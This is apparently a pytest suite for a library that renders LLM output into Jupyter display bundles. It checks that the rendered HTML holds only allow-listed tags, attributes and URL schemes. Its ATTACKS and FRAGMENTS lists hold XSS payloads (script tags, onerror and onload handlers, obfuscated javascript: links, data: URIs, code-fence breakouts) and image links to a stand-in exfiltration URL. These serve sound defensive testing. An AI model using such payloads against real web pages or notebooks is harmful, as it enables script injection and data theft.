"""Model text -> bundles: a real parser + nh3 for HTML, inert escaped Markdown, plain text, code, json.

The safety property is checked the way an attacker would use it: every
mime entry of a bundle is rendered (``text/markdown`` by markdown-it with
raw HTML *allowed*, as Jupyter's renderer does) and the resulting HTML must
hold nothing outside a small allow-list.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from gridllm_nb.display.render import (
    FORMATS,
    answer_html,
    error_bundle,
    escape_markdown,
    escape_markdown_inline,
    extract_code,
    fence,
    final_bundle,
    header,
    parse_json,
    render_text,
)

# What may appear once a bundle is rendered: the answer's tags, the wrapper
# div and the code block of the fenced formats.
SAFE_TAGS = {
    "p", "br", "hr", "pre", "code", "em", "strong", "del", "s", "blockquote", "ul", "ol", "li",
    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "a", "div",
}
SAFE_SCHEMES = ("http:", "https:", "mailto:", "#")
WRAPPER_CLASS = "tex2jax_ignore mathjax_ignore"
# The side-by-side table's own layout (``display.table``), never taken from model text.
OWN_STYLE = re.compile(r"width:100%;table-layout:fixed;overflow-wrap:break-word|text-align:left;vertical-align:top"
                       r"|white-space:pre-wrap;overflow-wrap:break-word;margin:0|color:#a00"
                       r"|overflow-x:auto(;margin:0)?|white-space:pre|width:100%;table-layout:fixed")


class Inspector(HTMLParser):
    """Every element and attribute of an HTML fragment, and any comment or declaration."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.other: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.other.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.other.append(f"decl {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.other.append(f"pi {data!r}")

    def unknown_decl(self, data: str) -> None:
        self.other.append(f"unknown decl {data!r}")


def inspect(fragment: str) -> Inspector:
    parser = Inspector()
    parser.feed(fragment)
    parser.close()
    return parser


def assert_safe_html(fragment: str) -> None:
    """No element, attribute or URL outside the allow-list; no src, style or handler at all."""
    found = inspect(fragment)
    assert not found.other, (found.other, fragment)
    for tag, attrs in found.elements:
        assert tag in SAFE_TAGS, (tag, fragment)
        for name, value in attrs:
            value = value or ""
            if tag == "a" and name == "href":
                assert value.startswith(SAFE_SCHEMES), (value, fragment)
            elif tag == "a" and name == "rel":
                assert value == "noopener noreferrer nofollow"
            elif tag == "ol" and name == "start":
                assert value.isdigit(), (value, fragment)
            elif tag == "div" and name == "class":
                assert value == WRAPPER_CLASS
            elif name == "style" and tag in ("table", "th", "td", "pre", "code", "p"):  # sidebyside's layout
                assert OWN_STYLE.fullmatch(value), (value, fragment)
            elif name == "width" and tag in ("th", "td"):
                assert re.fullmatch(r"\d+%", value), (value, fragment)
            elif tag == "code" and name == "class":  # a fence's info string, ours and sanitized
                assert re.fullmatch(r"language-[A-Za-z0-9_+.#\-]+", value), (value, fragment)
            else:
                raise AssertionError(f"attribute {name}={value!r} on <{tag}> in {fragment!r}")


# A renderer that passes raw HTML through, like Jupyter's (marked) and GitHub's before sanitizing.
RAW_HTML_MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def assert_safe_bundle(bundle: dict) -> None:
    if "text/html" in bundle:
        assert_safe_html(bundle["text/html"])
    if "text/markdown" in bundle:
        assert_safe_html(RAW_HTML_MARKDOWN.render(bundle["text/markdown"]))


ATTACKS = [
    "``<img src=x onerror=window.__pwned=1>`",  # the reported one: a longer backtick run
    "`<img src=x onerror=alert(1)>``",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "hello <iframe src='javascript:alert(1)'></iframe>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "<javascript:alert(1)>",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](http://127.0.0.1:9/exfil)",
    "[ref]: javascript:alert(1)\n\n[ref]",
    "[ref]: http://127.0.0.1:9/exfil\n\n![ref]",
    "`a\n\n<img src=x onerror=alert(1)>\n\n`",
    "\\`<img src=x onerror=alert(1)>`",
    "| `a|<img src=x onerror=alert(1)>` |\n|---|",
    "- item\n  ```\n<img src=x onerror=alert(1)>\n  ```",
    "```\nok\n```\n<img src=x onerror=alert(1)>",
    "text\u2028```\n<img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<svg onload=alert(1)><circle r=1></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<img src=x onerror=alert(1)",  # unclosed
    "<a href=\"x\" title='\"><img src=x onerror=alert(1)>'>q</a>",
    "<style>body{display:none}</style>",
    "<!-- <img src=x onerror=alert(1)> -->",
    "$\\href{javascript:alert(1)}{x}$ and \\\\(x\\\\)",
    "    <img src=x onerror=alert(1)>",  # indented: a code block in the source
    "[a](<javascript:alert(1)>) [b]( javascript:alert(1) 'title')",
]


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_render_inert(attack: str, fmt: str) -> None:
    bundle = final_bundle("m:1", "completed", 1.0, attack, attack, fmt)
    assert_safe_bundle(bundle)
    assert_safe_bundle(error_bundle(attack))
    assert_safe_html(render_text(attack)) and assert_safe_html(render_text(attack, markdown=True))


def test_reported_payload_is_text() -> None:
    payload = "``<img src=x onerror=window.__pwned=1>`"
    b = final_bundle("m:1", "completed", 1.0, payload)
    assert "<img" not in RAW_HTML_MARKDOWN.render(b["text/markdown"])
    assert "<img" not in b["text/html"] and "&lt;img src=x onerror=window.__pwned=1&gt;" in b["text/html"]
    assert b["text/plain"].endswith(payload)


def test_images_never_load_anything() -> None:
    html = answer_html("![secret data](http://127.0.0.1:9/exfil?q=1) and ![](https://x.example/a.png)")
    assert "<img" not in html and "src" not in html and "127.0.0.1" not in html.split("secret data")[0]
    assert "secret data" in html and "https://x.example/a.png" in html  # as text, not a link
    assert "<a" not in html


def test_links_only_to_safe_schemes() -> None:
    html = answer_html("[ok](https://example.org) [m](mailto:a@b.c) [f](#top) [rel](../etc/passwd) "
                       "[js](javascript:alert(1)) [d](data:text/html,x) [v](vbscript:x)")
    assert '<a href="https://example.org" rel="noopener noreferrer nofollow">ok</a>' in html
    assert 'href="mailto:a@b.c"' in html and 'href="#top"' in html
    hrefs = re.findall(r'href="([^"]*)"', html)
    assert hrefs == ["https://example.org", "mailto:a@b.c", "#top"]


def test_answer_html_keeps_markdown_but_no_classes_or_styles() -> None:
    html = answer_html("# T\n\n**b** *i* ~~d~~\n\n| a | b |\n|--:|---|\n| 1 | 2 |\n\n```python\nx < 1\n```\n"
                       "1. one\n2. two\n\nline one\nline two")
    for piece in ("<h1>T</h1>", "<strong>b</strong>", "<em>i</em>", "<s>d</s>", "<table>", "<td>1</td>",
                  "<pre><code>x &lt; 1\n</code></pre>", "<ol>", "<li>one</li>", "line one<br>"):
        assert piece in html, piece
    assert "class=" not in html and "style=" not in html


def test_escape_markdown_is_text_with_line_breaks() -> None:
    md = escape_markdown("a *b* `c` <d> & $e$ \\f\n  g\n\n\nh")
    assert md == "a \\*b\\* \\`c\\` \\<d\\> \\& &#36;e&#36; &#92;f\\\n\u00a0\u00a0g\n\nh"
    assert RAW_HTML_MARKDOWN.render(md) == "<p>a *b* `c` &lt;d&gt; &amp; $e$ \\f<br />\n\u00a0\u00a0g</p>\n<p>h</p>\n"
    assert escape_markdown_inline("smollm2:135m\nx") == "smollm2\\:135m x"


def test_final_bundle_markdown_html_and_plain() -> None:
    b = final_bundle("smollm2:135m", "completed", 1.25, "**Paris** <b>", None, "markdown")
    assert set(b) == {"text/html", "text/markdown", "text/plain"}
    assert b["text/plain"] == "smollm2:135m · completed · 1.2s\n**Paris** <b>"
    assert b["text/markdown"] == (f'<div class="{WRAPPER_CLASS}">\n\n'
                                  "**smollm2\\:135m** · completed · 1.2s\n\n\\*\\*Paris\\*\\* \\<b\\>\n\n</div>")
    assert b["text/html"] == (f'<div class="{WRAPPER_CLASS}"><p><strong>smollm2:135m</strong> · completed · 1.2s</p>'
                              "<p><strong>Paris</strong> &lt;b&gt;</p>\n</div>")


def test_other_formats_have_no_html() -> None:
    for fmt in ("text", "code", "json"):
        assert "text/html" not in final_bundle("m", "completed", 0, "x", None, fmt)


def test_final_bundle_shows_error_and_partial_text() -> None:
    b = final_bundle("m", "failed", 2.0, "partial", "boom <x>", "markdown")
    assert "failed" in b["text/plain"] and "boom <x>" in b["text/plain"] and "partial" in b["text/plain"]
    assert "<x>" not in b["text/markdown"] and "boom &lt;x&gt;" in b["text/html"]
    assert header("m", "lost", 1, "http://127.0.0.1:8765 unreachable")[1] == (
        "**m** · lost · 1.0s — http\\://127\\.0\\.0\\.1\\:8765 unreachable")


def test_text_format_is_fenced_verbatim() -> None:
    b = final_bundle("m", "completed", 0, "has ``` inside <b>", None, "text")
    md = b["text/markdown"]
    assert "````text\nhas ``` inside <b>\n````" in md


def test_code_format_extracts_fenced_code() -> None:
    text = "Here:\n```python\ndef f():\n    return {}\n```\nand\n```\nx = 1\n```\n"
    code, lang = extract_code(text)
    assert code == "def f():\n    return {}\n\nx = 1" and lang == "python"
    b = final_bundle("m", "completed", 0, text, None, "code")
    assert b["text/plain"].endswith("def f():\n    return {}\n\nx = 1")
    assert "```python\ndef f():" in b["text/markdown"]
    assert extract_code("  just code  ") == ("just code", "")


def test_code_format_unclosed_fence_while_streaming() -> None:
    assert extract_code("```py\nprint(1)\n") == ("print(1)", "py")


@pytest.mark.parametrize(
    "text, value",
    [
        ('{"a": 1}', {"a": 1}),
        ('Sure! ```json\n[1, 2]\n```', [1, 2]),
        ('The answer is {"x": [1, {"y": null}]} as asked.', {"x": [1, {"y": None}]}),
        ("42", 42),
    ],
)
def test_parse_json(text: str, value: object) -> None:
    assert parse_json(text) == (True, value)


def test_json_format() -> None:
    b = final_bundle("m", "completed", 0, 'ok {"a": [1, 2]}', None, "json")
    assert b["application/json"] == {"a": [1, 2]}
    assert json.loads(b["text/plain"].split("\n", 1)[1]) == {"a": [1, 2]}
    bad = final_bundle("m", "completed", 0, "not json at all", None, "json")
    assert "application/json" not in bad and "not valid JSON" in bad["text/plain"]


def test_error_bundle_one_line() -> None:
    b = error_bundle("unknown\nmodel <x>")
    assert b["text/plain"] == "gridllm: unknown model <x>"
    assert RAW_HTML_MARKDOWN.render(b["text/markdown"]) == (
        f'<div class="{WRAPPER_CLASS}">\n<p>gridllm: unknown model &lt;x&gt;</p>\n</div>')


def test_fence_longer_than_content() -> None:
    assert fence("a ```` b").startswith("`````")


# -- the property: any string, every mime entry, rendered, holds only allowed markup -------------

FRAGMENTS = [
    "`", "``", "```", "````", "~~~", "<", ">", "&", "[", "]", "](", "]: ", "(", ")", "!", "![", "*", "_", "|",
    "#", "-", "=", "+", "1.", "$", "$$", "\\", "\\(", "\\[", "\n", "\n\n", "\r", "    ", "\t", '"', "'", " ",
    "javascript:", "JaVaScRiPt:", "data:text/html,", "vbscript:", "http://127.0.0.1:9/exfil", "mailto:",
    "onerror=", "onload=", " src=", "href=", "style=", "<svg", "<math", "<img", "<script>", "</script>",
    "<iframe", "<style>", "<a ", "</a>", "<!--", "-->", "<![CDATA[", "<?", "<!DOCTYPE", "&lt;", "&gt;",
    "&amp;", "&#x6A;", "&#106;", "&quot;", "&#0;", "\u2028", "\u00a0", "www.example.com", "a@b.c",
]
model_text = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=4)), max_size=30).map("".join)


def test_in_a_column_only_the_answers_own_code_blocks_and_tables_are_styled() -> None:
    text = "`<pre>` and `<table>`, [a](https://e.com/<pre>) <https://e.com/<table>>\n\n```\ncode\n```"
    assert "style" not in answer_html(text)  # a card's answer: the widget's stylesheet lays it out
    styled = answer_html(text, in_column=True)
    assert styled.count("style=") == 2 and "<pre style='overflow-x:auto'><code style='white-space:pre'>code" in styled
    assert_safe_html(styled)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=model_text, error=st.one_of(st.none(), model_text), tag=model_text, fmt=st.sampled_from(FORMATS))
def test_any_text_renders_only_allowed_markup(text: str, error: str | None, tag: str, fmt: str) -> None:
    assert_safe_bundle(final_bundle(tag, "completed", 1.0, text, error, fmt))
    assert_safe_bundle(error_bundle(text))
    assert_safe_html(render_text(text, markdown=True))
    assert_safe_html(render_text(text))


@settings(max_examples=300, deadline=None)
@given(text=model_text)
def test_escaped_markdown_renders_as_exactly_the_text(text: str) -> None:
    """Safe *and* faithful: rendered with raw HTML allowed, the Markdown shows the model's text."""
    shown = "".join(inspect(RAW_HTML_MARKDOWN.render(escape_markdown(text))).text)
    assert shown.replace("\u00a0", " ").split() == text.replace("\x00", "\ufffd").replace("\u00a0", " ").split()
